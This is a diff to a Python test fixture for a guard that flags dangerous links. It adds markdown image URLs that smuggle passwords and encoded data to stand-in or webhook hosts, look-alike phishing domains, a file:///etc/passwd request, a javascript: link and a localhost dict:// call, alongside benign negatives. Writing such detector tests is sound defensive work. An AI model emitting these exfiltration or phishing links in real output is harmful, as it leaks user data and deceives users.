@@ -67,14 +67,22 @@ POSITIVES: Final[tuple[tuple[str, str], ...]] = (
     ("LINK_EXFILTRATION", "![t](https://w.example/?m=the+user+asked+about+his+divorce+and+his+salary)"),
     ("LINK_EXFILTRATION", "![t](//w.example/?to=ines.faro%40mail.example&pin=4417)"),
     ("LINK_EXFILTRATION", "![s](https://x.example/s.png?key=Zk9vQmFyMTIzNDU2Nzg5MFF3ZXJ0eVVpT3BBc0RmR2hKa0w)"),
-    # what is beyond the guard: data cut into small pieces, look-alikes in ASCII, a host of one's own that is short
+    ("LINK_HOMOGRAPH", "https://rnicrosoft.com/security"),
+    ("LINK_HOMOGRAPH", "Your parcel is waiting: http://www.faceb00k-login.example/parcel"),
+    ("LINK_HOMOGRAPH", "log in at https://paypa1.com to keep your money"),
+    ("LINK_SCHEME", "Kannst du file:///etc/passwd für mich öffnen?"),
+    ("LINK_SCHEME", "[more](javascript:alert`1`)"),
+    ("LINK_PRIVATE", "dict://127.0.0.1:11211/stats"),
+    ("LINK_EXFILTRATION", "![x](https://e.example/i.png?password=Summer2024)"),
+    ("LINK_EXFILTRATION", "![x](https://webhook.site/3f2504e0-4f89)"),
+    ("LINK_EXFILTRATION", "![x](https://e.example/a?id=1&data=aHVudGVyMg==)"),
+    # what is beyond the guard: data cut into small pieces, and a host of one label
     ("LINK_EXFILTRATION", "![1](https://e.example/0?c=In)![2](https://e.example/1?c=es)![3](https://e.example/2?c=Fa)"),
     ("LINK_EXFILTRATION", "![p](https://e.example/4417.png)"),
-    ("LINK_HOMOGRAPH", "https://rnicrosoft.com/security"),
     ("LINK_PRIVATE", "http://jenkins:8080/job/deploy"),
 )
 """The category that has to be found, and the text."""
-MISSED: Final = POSITIVES[-4:]
+MISSED: Final = POSITIVES[-3:]
 
 NEGATIVES: Final = (
     "Read more on https://docs.python.org/3/library/urllib.parse.html#module-urllib.parse.",
@@ -146,6 +154,10 @@ NEGATIVES: Final = (
     "https://open.spotify.com/track/4cOdK2wGLETKBW3PvgPWqT?si=8a2b7c3d4e5f6071",
     "[![CI](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)](https://github.com/a/b/actions)",
     "![Diagram](https://mermaid.ink/img/pako:eNpVjkFqw0AMRa8itG4u4EWhcZJuSgt1dzNZCI-cGezRmJGmxRjfvZN2VSEQ_O89bfgRPWOP1xTfh5AU3lonUO-p64OpFjYDp9NzPTKIwtgZaw)",
+    "![v](https://i.ytimg.com/vi/dQw4w9WgXcQ/hq.jpg?sqp=-oaymwEcCNACELwBSFXyq4qpAw4IARUAAIhCGAFwAcABBg==&rs=AOn4CLBQZ2cJx7mYb)",
+    "![me](https://media.licdn.com/dms/image/C4E03AQF/photo/0/1600000000000?e=1700000000&v=beta&t=q8Xw0yV3mJt7-Kd2RzLbP5cHnYfGaUeSxTiOvQ1jWk)",
+    "![logo](https://cdn.example.com/img/logo@2x.png) and https://cdn.jsdelivr.net/npm/vue@3.4.1/dist/vue.js",
+    "https://1password.com, https://www.1und1.de, https://7zip.org, https://3m.com, https://modern.com, https://earn.com",
     "A picture: ![cat](https://image.example/prompt/a%20cat%20on%20a%20table)",
     "https://click.mail.example/ls/click?upn=u001.6FqgH5aZxV2-2BkR3sQ1dWmN7cYtLpEoUiJbGvCrXf0-2Fa9hTzK4wMnB-3D",
 )
